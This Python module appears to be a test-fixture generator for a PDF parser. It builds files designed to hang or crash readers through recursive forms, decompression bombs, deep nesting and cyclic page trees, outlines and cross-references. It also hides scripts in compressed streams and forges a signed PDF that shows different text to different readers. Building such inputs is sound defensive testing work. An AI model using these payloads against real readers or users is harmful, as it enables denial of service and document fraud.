"""Files built to hang, kill or deceive a reader. Each returns the whole file."""

import struct
import zlib

from .raw import assemble, flate, one_page, stream, update


def self_drawing_form() -> bytes:
    """A form that draws itself twice: pdfium dies of it."""
    objects = one_page(b"BT (a) Tj ET /X Do", resources=b"/XObject<</X 6 0 R>>")
    objects[6] = stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>")
    return assemble(objects)


def multiplying_forms() -> bytes:
    """Twelve forms, each drawing the next ten times: a million million drawings in two kilobytes."""
    objects = one_page(b"/X Do", resources=b"/XObject<</X 10 0 R>>")
    for number in range(10, 22):
        objects[number] = stream(
            b"/X Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % (number + 1),
        )
    objects[22] = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return assemble(objects)


def deep_nesting() -> bytes:
    """An array in an array, a hundred thousand times over."""
    return assemble(one_page(catalogue=b"/Deep " + b"[" * 100_000 + b"]" * 100_000))


def content_bomb() -> bytes:
    """Content that grows a thousandfold: 64 MB of nothing."""
    objects = one_page()
    objects[4] = flate(b" " * (64 * 1024 * 1024))
    return assemble(objects)


_FILL = 64 * 1024 * 1024


def _packed(bodies: list[bytes], direct: list[bytes]) -> bytes:
    """A document whose objects 1, 2, … are packed into an object stream that decodes to 64 MB; the rest stand alone."""
    pdf = bytearray(b"%PDF-1.7\n")
    offsets = [sum(len(b) + 1 for b in bodies[:i]) for i in range(len(bodies))]
    index = b" ".join(b"%d %d" % (number, offset) for number, offset in enumerate(offsets, 1)) + b" "
    data = index + b" ".join(bodies) + b" " * _FILL
    rows = [(0, 0, 255)]
    holder = len(bodies) + len(direct) + 1
    rows += [(2, holder, i) for i in range(len(bodies))]
    entries = b"/Type/ObjStm/N %d/First %d" % (len(bodies), len(index))
    for number, body in enumerate([*direct, flate(data, entries)], len(bodies) + 1):
        rows.append((1, len(pdf), 0))
        pdf += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(pdf)
    rows.append((1, start, 0))
    table = b"".join(struct.pack("!BIB", *row) for row in rows)
    root = len(bodies) + 1 if direct else 1
    entries = b"/Type/XRef/W[1 4 1]/Size %d/Root %d 0 R" % (len(rows), root)
    pdf += b"%d 0 obj\n" % (holder + 1) + stream(table, entries) + b"\nendobj\n"
    return bytes(pdf) + b"startxref\n%d\n%%%%EOF\n" % start


def structure_bomb() -> bytes:
    """Catalogue and pages in a part that decodes to 64 MB."""
    return _packed([one_page()[number] for number in range(1, 6)], [])


def script_in_a_bomb() -> bytes:
    """A sound page, and a script in a part that decodes to 64 MB: browsers run it, careful readers do not see it."""
    catalogue = b"<</Type/Catalog/Pages 3 0 R/OpenAction 1 0 R>>"
    pages = b"<</Type/Pages/Count 1/Kids[4 0 R]>>"
    page = b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 9 9]/Contents 5 0 R>>"
    return _packed([b"<</S/JavaScript/JS(1)>>"], [catalogue, pages, page, stream(b"0 0 9 9 re f")])


def page_tree_of_doubles() -> bytes:
    """Thirty nodes, each holding the next one twice: a thousand million pages for a reader that counts."""
    objects = one_page()
    for number in range(10, 40):
        objects[number] = b"<</Type/Pages/Count 1000000000/Kids[%d 0 R %d 0 R]>>" % (number + 1, number + 1)
    objects[40] = b"<</Type/Page/MediaBox[0 0 9 9]>>"
    objects[2] = b"<</Type/Pages/Count 1000000000/Kids[10 0 R 10 0 R]>>"
    return assemble(objects)


def page_tree_circle() -> bytes:
    """A node of the page tree that is its own child, beside a real page."""
    objects = one_page()
    objects[2] = b"<</Type/Pages/Count 2/Kids[2 0 R 3 0 R]>>"
    return assemble(objects)


def too_many_pages(count: int) -> bytes:
    """One page object, listed many times."""
    objects = one_page()
    objects[2] = b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, b"3 0 R " * count)
    return assemble(objects)


def cross_reference_circle() -> bytes:
    """A cross-reference section that names itself as the one before it."""
    pdf = assemble(one_page())
    start = pdf.rsplit(b"startxref", 1)[1].split()[0]
    return pdf.replace(b"trailer\n<<", b"trailer\n<</Prev " + start + b" ")


def outline_circle() -> bytes:
    """Bookmarks that follow each other in a circle, the last with a script."""
    objects = one_page(catalogue=b"/Outlines 10 0 R")
    objects[10] = b"<</First 11 0 R/Last 12 0 R/Count 2>>"
    objects[11] = b"<</Title(a)/Next 12 0 R/First 11 0 R/Parent 10 0 R>>"
    objects[12] = b"<</Title(b)/Next 11 0 R/Parent 10 0 R/A<</S/JavaScript/JS(1)>>>>"
    return assemble(objects)


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A grey PNG that says it has this size, over this pixel data."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body))

    header = struct.pack("!IIBBBBB", width, height, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(data)) + chunk(b"IEND", b"")


def two_faced(*, signed: bool = True) -> bytes:
    """A signed PDF, changed so that some readers take the first /Contents of its page and others the last."""
    field = b"/AcroForm<</SigFlags 3/Fields[7 0 R]>>" if signed else b""
    objects = one_page(b"BT /F1 12 Tf 72 720 Td (The guarantee amounts to ten thousand yuan) Tj ET", catalogue=field)
    objects[7] = b"<</FT/Sig/T(s)/V 8 0 R>>"
    objects[8] = b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<3082>>>"
    page = objects[3].replace(b"/Contents 4 0 R", b"/Contents 4 0 R/Contents 9 0 R")
    forged = stream(b"BT /F1 12 Tf 72 720 Td (Somebody else owes a hundred million dollars) Tj ET")
    return update(assemble(objects), {3: page, 9: forged})
